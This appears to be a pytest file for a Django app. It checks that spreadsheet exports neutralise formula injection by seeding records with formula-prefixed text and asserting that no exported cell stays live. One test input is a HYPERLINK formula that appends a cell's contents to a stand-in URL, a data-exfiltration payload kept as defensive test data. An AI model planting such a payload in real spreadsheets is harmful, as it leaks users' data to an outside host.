"""Formula injection (#12.2): no .xlsx or .csv download carries a live formula, whatever text the
records hold.

Every text field of every record of the permission world is set to text a spreadsheet would run
("=1+<id>", "+…", "-…", "@…"), then every export route is downloaded as district A's office. Each
file must have no formula cell and no text cell starting with = + - @ tab or CR — the hostile text
appears guarded, as "'=1+…" — and must contain guarded text (so the test cannot pass on an empty
file). A new export route fails `test_every_export_route_is_tried` until it is added here.
"""

from __future__ import annotations

import io
from typing import Any

import openpyxl
import pytest
from django.apps import apps
from django.db import models
from django.urls import URLPattern, URLResolver, get_resolver
from tests.trust.permission_world import PermissionWorld, build_permission_world

from bioplan.sheets import registered_sheets
from bioplan.sheets.cells import FORMULA_STARTS, formula_safe, formula_unsafe

APPS = ("core", "plans", "tracking", "enterprises", "parks", "projects")
SKIP_MODELS = {"User"}
PREFIXES = ("=", "+", "-", "@")


def _export_routes(patterns: list[Any] | None = None, prefix: str = "") -> set[str]:
    """Names (namespace:name) of every route whose path ends in .xlsx or .csv."""
    found: set[str] = set()
    for p in patterns if patterns is not None else get_resolver().url_patterns:
        if isinstance(p, URLResolver):
            namespace = f"{p.namespace}:" if p.namespace else prefix
            found |= _export_routes(p.url_patterns, namespace)
        elif isinstance(p, URLPattern) and str(p.pattern).endswith((".xlsx", ".csv")):
            found.add(f"{prefix}{p.name}")
    return found


def _poison() -> int:
    """Set every free-text field of every record to a formula; returns how many values were set."""
    changed = 0
    for label in APPS:
        for model in apps.get_app_config(label).get_models():
            if model.__name__ in SKIP_MODELS or model.__name__.startswith("Historical"):
                continue
            fields = [
                f
                for f in model._meta.concrete_fields
                if isinstance(f, models.CharField | models.TextField)
                and not f.choices
                and not f.unique
                and (f.max_length or 100) >= 8
                and f.name not in {"password", "lineage", "content_hash"}
            ]
            for pk in model.objects.values_list("pk", flat=True):
                values = {f.attname: f"{PREFIXES[(pk + i) % 4]}1+{pk}" for i, f in enumerate(fields)}
                if values:
                    model.objects.filter(pk=pk).update(**values)
                    changed += len(values)
    return changed


@pytest.fixture
def poisoned(db: None) -> PermissionWorld:
    world = build_permission_world()
    assert _poison() > 100
    return world


def _urls(world: PermissionWorld) -> dict[str, list[str]]:
    plan = world.a.plan.pk
    return {
        "enterprises:export": [f"/enterprises/sheets/{kind}.xlsx" for kind in registered_sheets()],
        "reports:targets_xlsx": [f"/reports/plans/{plan}/targets.xlsx"],
        "reports:tasks_xlsx": [f"/reports/plans/{plan}/tasks.xlsx"],
        "reports:observations_xlsx": ["/reports/figures.xlsx"],
    }


def test_every_export_route_is_tried(db: None) -> None:
    assert _export_routes() == {
        "enterprises:export",
        "reports:targets_xlsx",
        "reports:tasks_xlsx",
        "reports:observations_xlsx",
    }


def test_no_export_carries_a_formula(client: Any, poisoned: PermissionWorld) -> None:
    client.force_login(poisoned.users["office-A"])
    tried = 0
    for route, urls in _urls(poisoned).items():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (route, url)
            book = openpyxl.load_workbook(io.BytesIO(response.content))  # formulas kept as formulas
            guarded = 0
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                        if isinstance(cell.value, str):
                            assert not cell.value.startswith(FORMULA_STARTS), (
                                url,
                                cell.coordinate,
                                cell.value,
                            )
                            guarded += cell.value.startswith(("'=", "'+", "'-", "'@"))
            assert guarded, f"{url}: no poisoned text reached the file"
            tried += 1
    assert tried == len(registered_sheets()) + 3


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x"&A2,"点我")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "普通文字", "'=1", ""],
)
def test_guard_round_trips(text: str) -> None:
    assert formula_unsafe(formula_safe(text)) == text
    assert not formula_safe(text).startswith(FORMULA_STARTS)
